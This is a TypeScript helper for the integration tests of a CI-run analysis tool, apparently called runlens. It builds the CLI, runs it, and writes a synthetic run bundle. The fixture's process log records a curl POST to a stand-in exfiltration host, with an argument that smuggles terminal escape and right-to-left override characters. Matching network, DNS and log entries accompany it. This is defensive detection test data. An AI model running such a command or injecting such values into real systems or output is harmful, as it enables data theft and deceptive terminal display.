/**
 * Helpers for the CLI integration tests: build the CLI with scripts/build-node.mjs (the build's own Node half)
 * into dist/electron/cli.cjs, run `node bin/runlens.cjs …` as a real child process, and
 * write a small run bundle (format v1) to disk.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { buildNode } from '../../scripts/build-node.mjs';

export const ROOT = path.resolve(__dirname, '..', '..');
export const BIN = path.join(ROOT, 'bin', 'runlens.cjs');

export async function buildCli(): Promise<void> {
  await buildNode(['cli'], 'silent');
}

export interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

export function runlens(args: string[], env: Record<string, string> = {}): Run {
  const r = spawnSync(process.execPath, [BIN, ...args], {
    cwd: ROOT,
    encoding: 'utf8',
    env: { ...process.env, ...env, RUNLENS_DEBUG: '' },
    timeout: 120_000,
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

export const SAMPLE_BUNDLE = path.join(ROOT, 'resources', 'sample-bundle');
export const sampleBundlePresent = existsSync(path.join(SAMPLE_BUNDLE, 'manifest.json'));

/** A small bundle: one job, three steps, a curl to an endpoint outside the policy, logs that mention it. */
export function writeMiniBundle(dir: string, opts: { policy?: boolean } = {}): string {
  const b = path.join(dir, 'mini-bundle');
  mkdirSync(path.join(b, 'logs', 'test'), { recursive: true });
  const manifest: Record<string, unknown> = {
    format: 'ci-run-bundle',
    version: 1,
    producer: { name: 'runlens-test', version: '1.0.0' },
    run: {
      repository: 'acme/web', workflow: 'CI', job: 'test', run_id: 1001, run_attempt: 1,
      started_at: '2026-10-14T09:12:03.100Z', completed_at: '2026-10-14T09:13:03.100Z',
    },
    steps: [
      { number: 1, name: 'Set up job', started_at: '2026-10-14T09:12:03.100Z', completed_at: '2026-10-14T09:12:05.100Z', conclusion: 'success' },
      { number: 2, name: 'Run actions/checkout@v4', uses: 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683',
        started_at: '2026-10-14T09:12:05.100Z', completed_at: '2026-10-14T09:12:13.100Z', conclusion: 'success' },
      { number: 3, name: 'Run npm test', started_at: '2026-10-14T09:12:13.100Z', completed_at: '2026-10-14T09:13:03.100Z', conclusion: 'success' },
    ],
  };
  if (opts.policy !== false) manifest.policy = { egress_policy: 'audit', allowed_endpoints: ['github.com:443'] };
  writeFileSync(path.join(b, 'manifest.json'), JSON.stringify(manifest, null, 2));
  const jl = (rows: object[]) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';
  const cwd = '/home/runner/work/web/web';
  writeFileSync(path.join(b, 'processes.jsonl'), jl([
    { ts: '2026-10-14T09:12:03.200Z', event: 'exec', pid: 100, ppid: 1, exe: '/home/runner/actions-runner/cached/bin/Runner.Worker', args: ['Runner.Worker', 'spawnclient'], cwd: '/home/runner', uid: 1001 },
    { ts: '2026-10-14T09:12:13.200Z', event: 'exec', pid: 200, ppid: 100, exe: '/usr/bin/bash', args: ['bash', '-e', '/home/runner/work/_temp/s.sh'], cwd, uid: 1001 },
    { ts: '2026-10-14T09:12:14.000Z', event: 'exec', pid: 300, ppid: 200, exe: '/usr/local/bin/node', args: ['node', 'scripts/test.js'], cwd, uid: 1001 },
    { ts: '2026-10-14T09:12:20.000Z', event: 'exec', pid: 4721, ppid: 300, exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', 'https://telemetry.exfil.example/v2/collect', 'evil\u001b[2J\u202etxt'], cwd, uid: 1001 },
    { ts: '2026-10-14T09:12:21.000Z', event: 'exit', pid: 4721, exit_code: 0 },
  ]));
  writeFileSync(path.join(b, 'network.jsonl'), jl([
    { ts: '2026-10-14T09:12:15.000000001Z', pid: 300, domain: 'github.com', ip: '140.82.112.3', port: 443 },
    { ts: '2026-10-14T09:12:20.700000417Z', pid: 4721, domain: 'telemetry.exfil.example', ip: '198.51.100.23', port: 443, protocol: 'tcp', status: 'allowed',
      http: { method: 'POST', host: 'telemetry.exfil.example', path: '/v2/collect', status_code: 202 } },
    { ts: '2026-10-14T09:12:30.000Z', pid: 300, ip: '198.51.100.2', port: 443 },
  ]));
  writeFileSync(path.join(b, 'dns.jsonl'), jl([
    { ts: '2026-10-14T09:12:20.600Z', domain: 'telemetry.exfil.example', answers: ['198.51.100.23'], type: 'A', pid: 4721 },
  ]));
  const log = (lines: [string, string][]) => '\uFEFF' + lines.map(([t, s]) => `${t} ${s}`).join('\r\n') + '\r\n';
  writeFileSync(path.join(b, 'logs', 'test', '1_Set up job.txt'), log([['2026-10-14T09:12:03.2000000Z', 'Current runner version: 2.329.0']]));
  writeFileSync(path.join(b, 'logs', 'test', '2_Run actions checkout@v4.txt'), log([['2026-10-14T09:12:06.0000000Z', 'Syncing repository: acme/web']]));
  writeFileSync(path.join(b, 'logs', 'test', '3_Run npm test.txt'), log([
    ['2026-10-14T09:12:13.3000000Z', '##[group]Run npm test'],
    ['2026-10-14T09:12:13.3100000Z', '##[endgroup]'],
    ['2026-10-14T09:12:19.0000000Z', '\u001b[36mposting results to telemetry.exfil.example\u001b[0m'],
    ['2026-10-14T09:12:21.0000000Z', 'connected to 198.51.100.23 port 443'],
    ['2026-10-14T09:12:22.0000000Z', 'fallback 198.51.100.2 configured'],
    ['2026-10-14T09:12:40.0000000Z', 'Tests passed'],
  ]));
  return b;
}
